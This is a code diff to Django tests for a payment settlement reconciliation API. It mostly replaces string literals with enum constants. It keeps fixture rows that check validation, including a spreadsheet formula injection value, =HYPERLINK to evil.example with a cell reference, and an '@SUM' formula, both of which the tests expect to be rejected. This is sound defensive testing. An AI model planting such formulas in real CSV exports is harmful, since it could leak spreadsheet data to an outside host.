@@ -14,9 +14,12 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from audit.models import AuditEvent
 from payments.models import Payment
 from reconciliation import csvfile, services
+from reconciliation.enums import Kind, Outcome, SettlementStatus
 from reconciliation.errors import SettlementFileRejected
 from tests.factories import TEST_ACTOR, make_api_key, make_merchant, make_payment
-from tests.reconciliation.conftest import HEADER, csv_bytes, line_for
+from tests.reconciliation.files import HEADER, csv_bytes, line_for
+
+pytestmark = pytest.mark.usefixtures("moto_without_rollback")
 
 API = "/api/v1/settlements"
 
@@ -121,8 +124,8 @@ def test_bom_column_order_extra_columns_and_blank_lines_are_fine(client, merchan
 
     assert response.status_code == 202
     body = response.json()
-    assert body["rows_total"] == 1 and body["status"] == "completed"
-    assert body["counts"]["matched"] == 1
+    assert body["rows_total"] == 1 and body["status"] == SettlementStatus.COMPLETED
+    assert body["counts"][Outcome.MATCHED] == 1
     assert body["totals"] == {"usd": {"gross": 2500, "fees": 75, "net": 2425}}
 
 
@@ -161,9 +164,9 @@ def test_upload_is_202_then_200_for_the_same_file_with_the_settlement_object(cli
     assert body["id"].startswith("set_") and body["object"] == "settlement" and body["filename"] == "nov-26.csv"
     assert len(body["sha256"]) == 64 and body["period_start"] == "2026-11-01"
     assert body["created"].endswith("Z") and body["completed"].endswith("Z")
-    assert set(body["counts"]) == {"matched", *services.KINDS}
+    assert set(body["counts"]) == set(services.Outcome)
     retrieved = _get(client, secret, f"{API}/{body['id']}").json()
-    assert retrieved["status"] == "completed" and retrieved["rows_processed"] == 3
+    assert retrieved["status"] == SettlementStatus.COMPLETED and retrieved["rows_processed"] == 3
     listed = _get(client, secret, API).json()
     assert (
         listed["object"] == "list" and [s["id"] for s in listed["data"]] == [body["id"]] and listed["has_more"] is False
@@ -203,26 +206,34 @@ def _row_problems(merchant):
     other = make_payment(make_merchant("Someone Else").merchant_id, amount=1250)
     future = (datetime.now(UTC) + timedelta(days=2)).date().isoformat()
     rows = [
-        (line_for(good), "matched", None),
-        ({**line_for(good), "amount": "-12.50"}, "invalid_row", "amount -12.50 is negative"),
+        (line_for(good), Outcome.MATCHED, None),
+        ({**line_for(good), "amount": "-12.50"}, Kind.INVALID_ROW, "amount -12.50 is negative"),
         (
             {**line_for(good), "amount": "99999999999999999999.00"},
-            "invalid_row",
+            Kind.INVALID_ROW,
             "amount 99999999999999999999.00 is too large",
         ),
-        ({**line_for(good), "amount": "12.345"}, "invalid_row", "amount 12.345 has more decimals than USD allows (2)"),
-        ({**line_for(yen), "amount": "12.5"}, "invalid_row", "amount 12.5 has more decimals than JPY allows (0)"),
-        ({**line_for(good), "currency": "XYZ"}, "invalid_row", "currency 'XYZ' is not a supported ISO-4217 currency"),
-        ({**line_for(good), "settled_at": future}, "invalid_row", f"settled_at {future} is in the future"),
+        (
+            {**line_for(good), "amount": "12.345"},
+            Kind.INVALID_ROW,
+            "amount 12.345 has more decimals than USD allows (2)",
+        ),
+        ({**line_for(yen), "amount": "12.5"}, Kind.INVALID_ROW, "amount 12.5 has more decimals than JPY allows (0)"),
+        (
+            {**line_for(good), "currency": "XYZ"},
+            Kind.INVALID_ROW,
+            "currency 'XYZ' is not a supported ISO-4217 currency",
+        ),
+        ({**line_for(good), "settled_at": future}, Kind.INVALID_ROW, f"settled_at {future} is in the future"),
         (
             {**line_for(good), "payment_id": '=HYPERLINK("http://evil.example/?"&A1,"Refund")'},
-            "invalid_row",
+            Kind.INVALID_ROW,
             "payment_id looks like a spreadsheet formula",
         ),
-        ({**line_for(good), "status": "@SUM(1+1)"}, "invalid_row", "status looks like a spreadsheet formula"),
-        (line_for(good), "duplicate_line", "already named on line 2"),
-        (line_for(yen), "matched", None),
-        (line_for(other), "missing_in_platform", f"No payment {other.payment_id} exists for this merchant"),
+        ({**line_for(good), "status": "@SUM(1+1)"}, Kind.INVALID_ROW, "status looks like a spreadsheet formula"),
+        (line_for(good), Kind.DUPLICATE_LINE, "already named on line 2"),
+        (line_for(yen), Outcome.MATCHED, None),
+        (line_for(other), Kind.MISSING_IN_PLATFORM, f"No payment {other.payment_id} exists for this merchant"),
     ]
     return rows, other
 
@@ -236,12 +247,12 @@ def test_row_problems_each_give_one_discrepancy_with_the_reason(client, merchant
 
     by_line = {d["line"]: d for d in items}
     for number, (_, outcome, reason) in enumerate(rows, start=2):
-        if outcome == "matched":
+        if outcome == Outcome.MATCHED:
             assert number not in by_line
         else:
             assert by_line[number]["kind"] == outcome, number
             assert reason in by_line[number]["detail"], (number, by_line[number]["detail"])
-    assert len(items) == sum(1 for _, o, _ in rows if o != "matched")
+    assert len(items) == sum(1 for _, o, _ in rows if o != Outcome.MATCHED)
     assert Payment.get(other.payment_id).settlement_id is None
     assert list(items[0]) == ["id", "object", "kind", "line", "payment_id", "expected", "actual", "detail", "resolved"]
 
@@ -258,12 +269,12 @@ def test_discrepancies_page_filter_by_kind_and_export_safely(client, merchant, s
         if not page["has_more"]:
             break
         cursor = page["next_cursor"]
-    invalid = _get(client, secret, f"{API}/{sid}/discrepancies", kind="invalid_row").json()["data"]
+    invalid = _get(client, secret, f"{API}/{sid}/discrepancies", kind=Kind.INVALID_ROW).json()["data"]
     unknown_kind = _get(client, secret, f"{API}/{sid}/discrepancies", kind="nonsense")
     export = _get(client, secret, f"{API}/{sid}/discrepancies/export")
 
     assert len(seen) == len(set(seen)) == 10 and seen == sorted(seen)
-    assert len(invalid) == 8 and {d["kind"] for d in invalid} == {"invalid_row"}
+    assert len(invalid) == 8 and {d["kind"] for d in invalid} == {Kind.INVALID_ROW}
     assert unknown_kind.status_code == 422 and unknown_kind.json()["code"] == "invalid_kind"
     assert export["Content-Type"].startswith("text/csv")
     parsed = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
